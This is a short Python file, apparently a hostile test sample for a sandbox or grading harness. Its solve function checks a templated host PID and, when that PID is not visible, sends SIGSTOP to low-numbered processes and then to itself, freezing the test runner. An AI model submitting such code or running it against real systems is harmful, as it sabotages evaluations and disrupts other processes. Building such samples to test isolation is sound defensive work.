"""Stops (SIGSTOP) all processes it can, where it does not see the one that runs the tests."""
import os
import signal


def solve(x):
    try:
        os.kill(int("{host_pid}"), 0)
    except ProcessLookupError:
        for number in range(1, 100):
            if number != os.getpid():
                try:
                    os.kill(number, signal.SIGSTOP)
                except OSError:
                    pass
    except OSError:
        pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return x
